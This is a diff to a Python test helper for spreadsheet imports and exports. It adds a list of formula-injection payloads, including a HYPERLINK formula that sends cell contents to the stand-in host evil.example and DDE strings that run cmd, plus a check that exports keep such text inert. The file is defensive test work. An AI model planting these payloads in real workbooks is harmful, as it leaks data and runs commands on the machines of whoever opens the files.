@@ -1,5 +1,7 @@
-"""Workbooks written part by part with zipfile, as an attacker or a broken program would: what
-the .xlsx imports must answer with a Chinese message instead of a stuck or failed request."""
+"""Hostile workbooks and hostile text. Workbooks written part by part with zipfile, as an
+attacker or a broken program would: what the .xlsx imports must answer with a Chinese message
+instead of a stuck or failed request. Text that starts like a formula: what the exports must
+write as the text typed."""
 
 from __future__ import annotations
 
@@ -8,7 +10,10 @@ import io
 import zipfile
 from xml.sax.saxutils import escape
 
+from openpyxl import load_workbook
+
 from qualitymonth.core.sheetreader import MAX_PART_BYTES
+from qualitymonth.core.xlsx import FORMULA_TRIGGERS
 
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
@@ -203,3 +208,30 @@ def hostile(headers: tuple[str, ...]) -> dict[str, bytes]:
         "a Word document named .xlsx": package({"word/document.xml": "<w:document/>"}),
         "truncated zip": workbook(sheet_xml(rows))[:300],
     }
+
+
+# One of each: what a citizen could type into a complaint, a registration answer or a name.
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"查看详情")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+]
+
+
+def cells(data: bytes):
+    book = load_workbook(io.BytesIO(data))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_formulas(data: bytes) -> None:
+    """No cell of the workbook is a formula, and text that starts like one is marked as text
+    (the quote prefix Excel shows as a leading apostrophe), so editing it keeps it text."""
+    for cell in cells(data):
+        assert cell.data_type != "f", (cell.coordinate, cell.value)
+        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
+            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
